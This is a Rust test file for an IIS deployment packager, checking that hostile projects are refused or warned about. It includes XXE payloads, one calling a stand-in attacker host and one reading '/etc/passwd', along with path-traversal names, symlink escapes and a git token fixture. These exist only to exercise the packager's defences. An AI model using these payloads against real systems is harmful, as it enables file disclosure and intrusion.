//! Issue 9: hostile or careless projects. Nothing from outside the project,
//! nothing unsafe in the zip, nothing half-written, nothing dropped silently,
//! no build-machine secrets in the package.

use std::path::Path;

use iiswsgi_deploy::{clean, feed, package};

use crate::Fixture;

fn quiet() -> impl FnMut(&str) {
    |_: &str| {}
}

fn build_in(f: &Fixture, dist: Option<&Path>) -> Result<package::Packaged, String> {
    package::package(&f.dir(), dist, &mut quiet()).map_err(|e| e.to_string())
}

fn zip_entries(path: &Path) -> Vec<(String, Vec<u8>)> {
    use std::io::Read as _;
    let mut z = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..z.len())
        .map(|i| {
            let mut e = z.by_index(i).unwrap();
            let mut data = Vec::new();
            e.read_to_end(&mut data).unwrap();
            (e.name().unwrap().to_string(), data)
        })
        .collect()
}

fn names(p: &package::Packaged) -> String {
    p.entries.join("\n")
}

fn warned(p: &package::Packaged, needles: &[&str]) -> bool {
    p.warnings
        .iter()
        .any(|w| needles.iter().all(|n| w.contains(n)))
}

#[cfg(unix)]
#[test]
fn backslash_names_never_reach_outside_the_project() {
    let f = Fixture::pyramid();
    // Three folders up from the project is the temporary folder's parent; a
    // file next to the project is the one the backslash name aims at.
    std::fs::write(f.tmp.path().join("outside.txt"), "secret").unwrap();
    f.write("..\\outside.txt", "decoy");
    let e = build_in(&f, None).unwrap_err();
    assert!(
        e.contains("..\\outside.txt") && e.contains("backslash"),
        "the error names the file and says why: {e}"
    );
    assert!(
        !f.dir().join("dist").exists()
            || std::fs::read_dir(f.dir().join("dist")).unwrap().count() == 0,
        "no zip"
    );
}

#[cfg(unix)]
#[test]
fn names_windows_cannot_hold_are_errors_naming_the_file() {
    for name in [
        "CON",
        "con.txt",
        "Aux.ini",
        "nul",
        "COM1",
        "lpt9.ini",
        "trailing.",
        "trailing ",
        "c:evil",
        "a<b",
        "q?",
    ] {
        let f = Fixture::pyramid();
        std::fs::create_dir_all(f.dir().join("pyramidiisapp/static")).unwrap();
        f.write(&format!("pyramidiisapp/static/{name}"), "x");
        let e = build_in(&f, None).unwrap_err();
        assert!(
            e.contains(&format!("pyramidiisapp/static/{name}")) && e.contains("rename"),
            "{name:?}: {e}"
        );
    }
}

#[test]
fn dist_dir_inside_the_project_is_never_packed_however_spelled() {
    let f = Fixture::pyramid();
    let dotted = f.dir().join("../PyramidIISApp/./out");
    let first = build_in(&f, Some(&dotted)).unwrap();
    let second = build_in(&f, Some(&dotted)).unwrap();
    assert!(!names(&second).contains("out/"), "{}", names(&second));
    assert_eq!(first.sha1, second.sha1, "the previous zip was packed");

    #[cfg(unix)]
    {
        let f = Fixture::pyramid();
        std::fs::create_dir_all(f.dir().join("out")).unwrap();
        let link = f.tmp.path().join("out-link");
        std::os::unix::fs::symlink(f.dir().join("out"), &link).unwrap();
        let first = build_in(&f, Some(&link)).unwrap();
        let second = build_in(&f, Some(&link)).unwrap();
        assert!(!names(&second).contains("out/"), "{}", names(&second));
        assert_eq!(first.sha1, second.sha1, "the previous zip was packed");
    }

    let f = Fixture::pyramid();
    let e = build_in(&f, Some(&f.dir().join("sub/.."))).unwrap_err();
    assert!(e.contains("is the project folder"), "{e}");
}

#[test]
fn project_name_and_version_are_validated() {
    for (from, to, want) in [
        (
            "name = \"PyramidIISApp\"",
            "name = \"../../../escaped\"",
            "pyproject.toml:6: [project] name \"../../../escaped\" is not a valid",
        ),
        (
            "name = \"PyramidIISApp\"",
            "name = \"/tmp/abs\"",
            "is not a valid",
        ),
        (
            "version = \"0.1\"",
            "version = \"0.1/../../x\"",
            "pyproject.toml:7: [project] version \"0.1/../../x\" is not a valid",
        ),
    ] {
        let f = Fixture::pyramid();
        f.edit("pyproject.toml", from, to);
        let e = build_in(&f, None).unwrap_err();
        assert!(e.contains(want) && e.contains("; "), "{to}: {e}");
        assert!(
            !f.tmp.path().join("escaped.msdeploy.zip").exists()
                && !f.tmp.path().join("escaped-0.1.msdeploy.zip").exists()
        );
    }
    // Output names come from the normalised forms.
    let f = Fixture::pyramid();
    f.edit(
        "pyproject.toml",
        "name = \"PyramidIISApp\"",
        "name = \"Pyramid.IIS--App\"",
    );
    f.edit(
        "pyproject.toml",
        "version = \"0.1\"",
        "version = \"v01.0-RC1\"",
    );
    f.edit(
        "Parameters.xml",
        "match=\"PyramidIISApp\"",
        "match=\"^Pyramid\\.IIS--App$\"",
    );
    let p = build_in(&f, None).unwrap();
    assert_eq!(
        p.zip,
        f.dir().join("dist/Pyramid_IIS_App-1.0rc1.msdeploy.zip")
    );
    assert_eq!(p.iis_app_path, "Pyramid.IIS--App");
    let fd = feed::feed(&f.dir(), &[], None, None, &mut quiet()).unwrap();
    assert_eq!(
        fd.path,
        f.dir().join("dist/Pyramid_IIS_App-1.0rc1.webpi.xml")
    );
}

#[test]
fn reserved_names_as_the_application_folder_are_refused() {
    let f = Fixture::pyramid();
    f.edit(
        "pyproject.toml",
        "name = \"PyramidIISApp\"",
        "name = \"CON\"",
    );
    f.edit("Parameters.xml", "match=\"PyramidIISApp\"", "match=\"CON\"");
    let e = build_in(&f, None).unwrap_err();
    assert!(e.contains("<iisApp path=\"CON\">"), "{e}");
}

#[test]
fn doctypes_are_refused_in_every_xml_read() {
    let doctype =
        "<!DOCTYPE parameters [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\"> %x;]>\n";
    for (file, anchor) in [
        ("Parameters.xml", "<parameters>"),
        ("Manifest.xml.in", "<msDeploy.iisApp>"),
        ("web.config.in", "<configuration>"),
    ] {
        for dt in [doctype.to_string(), doctype.replace("DOCTYPE", "doctype")] {
            let f = Fixture::pyramid();
            f.edit(file, anchor, &format!("{dt}{anchor}"));
            let e = build_in(&f, None).unwrap_err();
            let line = if file == "Parameters.xml" { 1 } else { 2 };
            assert!(
                e.contains(&format!("{file}:{line}: a DOCTYPE")),
                "{file}: {e}"
            );
        }
    }
}

#[test]
fn clean_webpi_leaves_a_cached_feed_with_a_doctype_alone_and_says_so() {
    let f = Fixture::pyramid();
    let cache = f.tmp.path().join("cache");
    std::fs::create_dir_all(&cache).unwrap();
    let feed = "<?xml version=\"1.0\"?>\n<!DOCTYPE feed [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>http://www.pylonsproject.org/projects/pyramid/about</id></feed>";
    std::fs::write(cache.join("feed.xml"), feed).unwrap();
    let mut said = Vec::new();
    let done = clean::clean_webpi(&f.dir(), &[], Some(&cache), None, &mut |m: &str| {
        said.push(m.to_string());
    })
    .unwrap();
    assert!(done.removed.is_empty() && cache.join("feed.xml").is_file());
    assert!(
        said.iter()
            .any(|m| m.contains("feed.xml:2: a DOCTYPE") && m.starts_with("warning: ")),
        "{said:?}"
    );
}

#[test]
fn a_failed_build_writes_nothing_into_the_project() {
    let f = Fixture::pyramid();
    // Tests run as root: a dist "folder" that is a regular file (and a path
    // under it) cannot be written whatever the permissions.
    let blocker = f.tmp.path().join("blocker");
    std::fs::write(&blocker, "").unwrap();
    for dist in [blocker.clone(), blocker.join("dist")] {
        assert!(build_in(&f, Some(&dist)).is_err());
        for built in ["Manifest.xml", "iis_install.stamp"] {
            assert!(
                !f.dir().join(built).exists(),
                "{built} written by a build that failed"
            );
        }
    }
    assert_eq!(std::fs::read(&blocker).unwrap(), b"");
    let p = build_in(&f, None).unwrap();
    assert!(p.manifest.is_file() && f.dir().join("iis_install.stamp").is_file());
}

#[cfg(unix)]
#[test]
fn symlinks_inside_are_followed_outside_ones_named_and_left_out() {
    use std::os::unix::fs::symlink;
    let f = Fixture::pyramid();
    let d = f.dir();
    std::fs::write(f.tmp.path().join("secret.txt"), "outside").unwrap();
    symlink("production.ini", d.join("linked.ini")).unwrap();
    symlink("pyramidiisapp", d.join("linked_pkg")).unwrap();
    symlink("../secret.txt", d.join("escape.txt")).unwrap();
    symlink(f.tmp.path(), d.join("escape_dir")).unwrap();
    symlink(".", d.join("loop")).unwrap();
    symlink("missing", d.join("dangling")).unwrap();
    std::fs::create_dir_all(d.join(".git")).unwrap();
    f.write(".git/config", "[http] extraheader = AUTHORIZATION: token");
    symlink(".git/config", d.join("gitconfig")).unwrap();

    let p = build_in(&f, None).unwrap();
    let entries = zip_entries(&p.zip);
    let get = |n: &str| entries.iter().find(|(k, _)| k == n).map(|(_, v)| v.clone());
    assert_eq!(
        get("PyramidIISApp/linked.ini"),
        Some(std::fs::read(d.join("production.ini")).unwrap())
    );
    assert!(get("PyramidIISApp/linked_pkg/__init__.py").is_some());
    let all = names(&p);
    insta::assert_snapshot!("symlinks_zip_listing", all);
    let tmp = f.tmp.path().canonicalize().unwrap();
    let tmps = [
        tmp.display().to_string(),
        f.tmp.path().display().to_string(),
    ];
    let escaped: Vec<String> = tmps
        .iter()
        .map(|t| fancy_regex::escape(t).into_owned())
        .collect();
    let filters: Vec<(&str, &str)> = escaped.iter().map(|t| (t.as_str(), "[TMP]")).collect();
    insta::with_settings!({filters => filters}, {
        insta::assert_snapshot!("symlinks_warnings", p.warnings.join("\n"));
    });
    for gone in ["escape", "loop/", "dangling", "gitconfig", "secret"] {
        assert!(!all.contains(gone), "{gone}: {all}");
    }
    assert!(!entries.iter().any(|(_, v)| v == b"outside"));
    for (name, why) in [
        ("escape.txt", "outside the project"),
        ("escape_dir", "outside the project"),
        ("loop", "folder that contains it"),
        ("dangling", "broken"),
        ("gitconfig", "version-control"),
    ] {
        assert!(
            warned(&p, &[&format!("/{name}"), why, "left out"]),
            "{name}: {:?}",
            p.warnings
        );
    }
}

#[test]
fn globs_that_match_nothing_are_warned_about() {
    let f = Fixture::pyramid();
    f.edit(
        "pyproject.toml",
        "exclude = [\"*.log\"]",
        "exclude = [\"*.log\", \"*.nomatch\"]\ninclude = [\"/etc/passwd\", \"../*.txt\", \"nothing*\", \"README.txt\"]",
    );
    f.write("MANIFEST.in", "include README.txt\nglobal-exclude *.zzz\n");
    let p = build_in(&f, None).unwrap();
    for glob in [
        "\"*.nomatch\"",
        "\"/etc/passwd\"",
        "\"../*.txt\"",
        "\"nothing*\"",
    ] {
        assert!(
            warned(&p, &["pyproject.toml", glob, "matches no file"]),
            "{glob}: {:?}",
            p.warnings
        );
    }
    assert!(warned(&p, &["MANIFEST.in:2", "*.zzz", "matches no file"]));
    assert!(!warned(&p, &["\"*.log\""]) && !warned(&p, &["\"README.txt\""]));
    assert!(!warned(&p, &["MANIFEST.in:1"]), "{:?}", p.warnings);
}

#[test]
fn templates_expand_only_product_variables_and_expand_env() {
    // Names of this test only: other tests do not see a difference.
    std::env::set_var("IISWSGI_TEST9_SECRET", "s3cr3t-token");
    std::env::set_var("IISWSGI_TEST9_ALLOWED", "allowed-value");
    let f = Fixture::pyramid();
    f.edit(
        "Manifest.xml.in",
        "<iisApp",
        "<setAcl path=\"%IISWSGI_TEST9_SECRET%\" />\n  <setAcl path=\"${IISWSGI_TEST9_ALLOWED}\" />$IISWSGI_TEST9_UNSET\n  <iisApp",
    );
    f.edit(
        "pyproject.toml",
        "exclude = [\"*.log\"]",
        "exclude = [\"*.log\"]\nexpand-env = [\"iiswsgi_test9_allowed\", \"IISWSGI_TEST9_UNSET\"]",
    );
    let p = build_in(&f, None).unwrap();
    let manifest = std::fs::read_to_string(&p.manifest).unwrap();
    insta::assert_snapshot!("manifest_with_expand_env", manifest);
    assert!(!manifest.contains("s3cr3t"), "{manifest}");
    assert!(manifest.contains("%IISWSGI_TEST9_SECRET%"), "{manifest}");
    assert!(manifest.contains("allowed-value"), "{manifest}");
    assert!(manifest.contains("path=\"PyramidIISApp\""), "{manifest}");
    let zipped = zip_entries(&p.zip);
    assert!(!zipped
        .iter()
        .any(|(_, v)| String::from_utf8_lossy(v).contains("s3cr3t")));
    assert!(
        warned(
            &p,
            &["Manifest.xml.in:3", "%IISWSGI_TEST9_SECRET%", "expand-env"]
        ),
        "{:?}",
        p.warnings
    );
    assert!(warned(
        &p,
        &[
            "Manifest.xml.in:4",
            "$IISWSGI_TEST9_UNSET",
            "not set on the build machine"
        ]
    ));
    // %SystemDrive% is the target's: left for cmd.exe there, and said.
    assert!(warned(&p, &["Manifest.xml.in:7", "%SystemDrive%"]));
    assert!(!warned(&p, &["IISWSGI_TEST9_ALLOWED"]));
}

#[test]
fn streamed_zip_is_still_reproducible_and_holds_large_entries() {
    let f = Fixture::pyramid();
    let big: Vec<u8> = (0..3_000_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(f.dir().join("big.bin"), &big).unwrap();
    let first = build_in(&f, None).unwrap();
    let bytes = std::fs::read(&first.zip).unwrap();
    let second = build_in(&f, None).unwrap();
    assert_eq!(bytes, std::fs::read(&second.zip).unwrap());
    assert_eq!(first.size, bytes.len() as u64);
    let entries = zip_entries(&first.zip);
    assert!(entries
        .iter()
        .any(|(k, v)| k == "PyramidIISApp/big.bin" && *v == big));
    let mut z = zip::ZipArchive::new(std::fs::File::open(&first.zip).unwrap()).unwrap();
    for i in 0..z.len() {
        let e = z.by_index(i).unwrap();
        assert_eq!(e.unix_mode().map(|m| m & 0o777), Some(0o644));
        assert_eq!(e.last_modified(), Some(zip::DateTime::default()));
    }
    let sorted: Vec<&String> = entries[2..].iter().map(|(k, _)| k).collect();
    let mut resorted = sorted.clone();
    resorted.sort();
    assert_eq!(sorted, resorted);
}

#[test]
fn the_readme_is_read_only_from_inside_the_project() {
    let f = Fixture::pyramid();
    std::fs::write(f.tmp.path().join("outside.txt"), "secret").unwrap();
    f.edit(
        "pyproject.toml",
        "readme = \"README.txt\"",
        "readme = \"../outside.txt\"",
    );
    let e = build_in(&f, None).unwrap_err();
    assert!(
        e.contains("[project] readme \"../outside.txt\" resolves to")
            && e.contains("outside the project"),
        "{e}"
    );
}
